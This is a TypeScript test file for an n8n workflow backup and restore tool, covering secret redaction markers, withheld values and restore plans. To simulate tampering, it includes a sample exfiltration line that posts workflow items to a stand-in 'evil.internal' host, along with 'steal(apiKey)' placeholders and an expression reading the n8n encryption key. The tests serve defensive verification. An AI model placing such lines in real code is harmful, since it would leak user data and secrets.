import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { diff } from '../../../../src/jobs/diff.ts';
import { DEFAULT_KINDS } from '../../../../src/kinds/kinds.ts';
import type { JsonObject } from '../../../../src/lib/json/json.ts';
import type { N8nClient } from '../../../../src/n8n/http/types.ts';
import type { SnapshotDiff } from '../../../../src/diff/types.ts';
import { printPlan } from '../../../../src/restore/plan/output/print-plan.ts';
import { DEFAULT_POLICY, type StorePolicy } from '../../../../src/snapshot/treat/policy.ts';
import { FAKE } from '../../../support/fake-secrets.ts';
import { MemoryStore } from '../../../support/memory-store.ts';
import { clientFor, runRestore, saveSnapshot, troubles } from '../../../support/restore/run.ts';
import { addDataTable } from '../../../support/stand-in/data-tables.ts';
import { insertRow } from '../../../support/stand-in/rows.ts';
import { startStandIn, type StandIn } from '../../../support/stand-in/start.ts';
import { draftOf, personalProject, type Workflow } from '../../../support/stand-in/state.ts';
import { addVariable } from '../../../support/stand-in/variables.ts';
import { addWorkflow, saveDraft } from '../../../support/stand-in/workflow-actions.ts';
import { testTools } from '../../../support/tools.ts';

const REDACT: StorePolicy = { ...DEFAULT_POLICY, secrets: 'redact' };
const MARKER = '[redacted by flowkeep: github-token]';
const EVIL = 'await fetch("https://evil.internal", { body: JSON.stringify(items) }); return items;';

let n8n: StandIn;
let client: N8nClient;
let store: MemoryStore;

const codeNode = (jsCode: string): JsonObject => ({
  id: 'n2',
  name: 'Sign',
  type: 'n8n-nodes-base.code',
  typeVersion: 2,
  position: [0, 0],
  parameters: { jsCode },
});

beforeEach(async () => {
  n8n = await startStandIn({ licensed: true });
  client = clientFor(n8n);
  store = new MemoryStore();
});
afterEach(async () => {
  await client.close();
  await n8n.stop();
});

function workflowWith(jsCode: string): Workflow {
  return addWorkflow(n8n.state, { id: 'InvoiceSync00001', name: 'Invoice sync', nodes: [codeNode(jsCode)] });
}

function setCode(workflow: Workflow, jsCode: string): void {
  saveDraft(n8n.state, workflow, { ...draftOf(workflow), nodes: [codeNode(jsCode)] });
}

function codeOf(id = 'InvoiceSync00001'): unknown {
  const [node] = draftOf(n8n.state.workflows.get(id)!).nodes;
  return (node!.parameters as JsonObject).jsCode;
}

const backUp = (policy = REDACT): Promise<void> => saveSnapshot(client, store, 'prod', policy);
const restoreAll = async () =>
  runRestore(client, store, { into: 'prod', snapshot: (await store.latest('prod'))!, safetySnapshot: false });
const plan = async () =>
  (await runRestore(client, store, { into: 'prod', snapshot: (await store.latest('prod'))!, dryRun: true })).plan;

async function live(from = 'latest', to = 'live'): Promise<SnapshotDiff> {
  return diff({
    ...{ instance: 'prod', stores: [store], from, to, only: [] },
    live: { client: async () => client, kinds: DEFAULT_KINDS },
    ...testTools(),
  });
}

const itemsOf = (found: SnapshotDiff) => found.kinds.flatMap(({ items }) => items);
const withheldOf = (found: SnapshotDiff) => found.kinds.flatMap(({ withheld = [] }) => withheld);

describe.each([
  ['a store that redacts', REDACT],
  ['a store that withholds nothing', DEFAULT_POLICY],
] as const)('a marker that somebody typed, in %s', (_, policy) => {
  it.each([
    ['the whole code', MARKER, EVIL],
    ['a line of the code', `return items; // ${MARKER}`, `${EVIL} // ${MARKER}`],
    ['an escaped one', '[redacted by flowkeep~: github-token]', MARKER],
    ['one that becomes an escaped one', MARKER, '[redacted by flowkeep~: github-token]'],
    ['one that becomes one word', MARKER, 'evil()'],
  ])(
    'a typed marker as %s does not hide that the code was replaced, and comes back as it was',
    async (_what, typed, evil) => {
      const workflow = workflowWith(typed);
      await backUp(policy);
      setCode(workflow, evil);
      const found = await live();
      expect(itemsOf(found)).toMatchObject([{ name: 'Invoice sync', change: 'changed' }]);
      expect(withheldOf(found)).toEqual([]);
      expect((await plan()).actions).toMatchObject([{ verb: 'update', why: 'nodes differ' }]);
      const report = await restoreAll();
      expect(troubles(report)).toEqual([]);
      expect(report).toMatchObject({ exitCode: 0, byHand: [] });
      expect(codeOf()).toBe(typed);
    },
  );

  it('a typed marker is no difference and nothing withheld where it is still there', async () => {
    workflowWith(`return items; // ${MARKER}`);
    await backUp(policy);
    const found = await live();
    expect([itemsOf(found), withheldOf(found)]).toEqual([[], []]);
    expect((await plan()).actions).toMatchObject([{ verb: 'unchanged', why: 'as in the snapshot' }]);
  });

  it('a typed marker in a variable and in a row does not hide what replaced it', async () => {
    addVariable(n8n.state, { key: 'REGION', value: MARKER, projectId: null });
    const columns = [{ name: 'note', type: 'string' }] as const;
    const projectId = personalProject(n8n.state).id;
    const table = addDataTable(n8n.state, { id: 'TokensTable00001', name: 'Tokens', projectId, columns });
    insertRow(table, { note: `old: ${MARKER}` }, n8n.state);
    await backUp(policy);
    const [variable] = n8n.state.variables.values();
    n8n.state.variables.set(variable!.id, { ...variable!, value: 'evil' });
    const [row] = [...table.rows.scan({ aboveId: 0, descending: false })];
    table.rows.replace({ ...row!, note: 'old: evil' });
    expect(itemsOf(await live()).map(({ kind }) => kind)).toEqual(['variables', 'data-tables']);
    expect(troubles(await restoreAll())).toEqual([]);
    expect([...n8n.state.variables.values()]).toMatchObject([{ value: MARKER }]);
    expect([...table.rows.scan({ aboveId: 0, descending: false })]).toMatchObject([{ note: `old: ${MARKER}` }]);
  });
});

describe('what was withheld', () => {
  const secretLine = (secret: string): string => `const apiKey = "${secret}";`;

  it('a withheld text is no difference and not the same: diff counts it, and a restore says how far it can tell', async () => {
    workflowWith(`${secretLine(FAKE.github)}\nreturn items;`);
    await backUp();
    const found = await live();
    expect(itemsOf(found)).toEqual([]);
    expect(withheldOf(found)).toEqual([{ id: 'InvoiceSync00001', name: 'Invoice sync', texts: 1 }]);
    expect(found.kinds.flatMap(({ notes }) => notes)).toContainEqual(
      '1 text could not be compared (withheld): "Invoice sync" (1)',
    );
    const planned = await plan();
    expect(planned.actions).toMatchObject([
      {
        verb: 'unchanged',
        why: 'as in the snapshot, as far as can be told: 1 text is withheld',
        withheld: { texts: 1 },
      },
    ]);
    expect(printPlan(planned)).toContain('Nothing to do: 1 unchanged as far as can be told.');
    expect(await restoreAll()).toMatchObject({ exitCode: 0, items: [{ result: 'unchanged', withheld: { texts: 1 } }] });
  });

  it('a withheld value of a variable is counted as not compared', async () => {
    addVariable(n8n.state, { key: 'REGION', value: 'eu', projectId: null });
    await backUp({ ...DEFAULT_POLICY, variableValues: 'omit' });
    expect(withheldOf(await live())).toMatchObject([{ name: 'REGION', texts: 1 }]);
    expect((await plan()).actions).toMatchObject([{ verb: 'unchanged', withheld: { others: ['the value'] } }]);
  });

  it('a line whose secret is found for sure is restored around it', async () => {
    const workflow = workflowWith(`${secretLine(FAKE.github)}\nreturn items;`);
    await backUp();
    setCode(workflow, `${secretLine(FAKE.github)} steal(apiKey);\nreturn [];`);
    expect((await plan()).actions).toMatchObject([{ verb: 'update', why: 'nodes differ' }]);
    expect(await restoreAll()).toMatchObject({ exitCode: 0, byHand: [] });
    expect(codeOf()).toBe(`${secretLine(FAKE.github)}\nreturn items;`);
  });

  it('a line whose secret is not found stays, is named with exit code 3, and the lines around it come back', async () => {
    const workflow = workflowWith(`// one\n${secretLine(FAKE.github)}\nreturn items;`);
    await backUp();
    setCode(workflow, `// one\nconst apiKey = steal(await read());\nreturn [];`);
    const report = await restoreAll();
    expect(codeOf()).toBe('// one\nconst apiKey = steal(await read());\nreturn items;');
    expect(report.exitCode).toBe(3);
    expect(report.items).toMatchObject(
      [{ result: 'differs', reason: /1 text stays/ }].map(({ result }) => ({ result })),
    );
    expect(report.byHand.flatMap(({ places }) => places)).toEqual([
      expect.stringContaining('node "Sign": parameters.jsCode: line 2 stays as it is on the target'),
    ]);
  });

  it('a text that is a secret as a whole does not pass for one where it became code', async () => {
    const header = (value: string): JsonObject => ({
      ...codeNode(''),
      parameters: { headerParameters: { parameters: [{ name: 'X-Api-Key', value }] } },
    });
    const workflow = addWorkflow(n8n.state, { id: 'w1', name: 'Call', nodes: [header(FAKE.plain)] });
    await backUp();
    saveDraft(n8n.state, workflow, { ...draftOf(workflow), nodes: [header('={{ $env.N8N_ENCRYPTION_KEY }}')] });
    expect(itemsOf(await live())).toMatchObject([{ name: 'Call', change: 'changed' }]);
    const planned = await plan();
    expect(planned.actions).toMatchObject([
      { why: 'not as in the snapshot: 1 text stays as the target has it', notes: [{ code: 'by-hand' }] },
    ]);
    expect(printPlan(planned)).toContain('Nothing to do: 1 not as in the snapshot.');
    expect(await restoreAll()).toMatchObject({ exitCode: 3, items: [{ result: 'differs' }] });
  });
});

describe('after a restore that had no secret to write', () => {
  const code = (key: string, rest: string): string => `const apiKey = "${key}";\n${rest}`;

  it('the other lines of a created item can be restored again, and its secret is still asked for', async () => {
    workflowWith(code(FAKE.github, 'return items;'));
    await backUp();
    n8n.state.workflows.clear();
    expect((await restoreAll()).exitCode).toBe(3);
    expect(codeOf()).toBe(code(MARKER, 'return items;'));
    setCode(n8n.state.workflows.get('InvoiceSync00001')!, code(MARKER, 'return [];'));
    const again = await restoreAll();
    expect(codeOf()).toBe(code(MARKER, 'return items;'));
    expect(again.exitCode).toBe(3);
    expect(again.byHand).toMatchObject([{ name: 'Invoice sync' }]);
  });

  it('the next snapshot has the marker as a text like any other, restores it, and says that a secret may be missing', async () => {
    workflowWith(code(FAKE.github, 'return items;'));
    await backUp();
    n8n.state.workflows.clear();
    await restoreAll();
    await backUp();
    setCode(n8n.state.workflows.get('InvoiceSync00001')!, code('', 'return [];'));
    const report = await restoreAll();
    expect(codeOf()).toBe(code(MARKER, 'return items;'));
    expect(report).toMatchObject({ exitCode: 0, byHand: [] });
    expect(report.items.flatMap(({ notes }) => notes)).toEqual([
      expect.stringContaining('node "Sign": parameters.jsCode'),
    ]);
  });
});
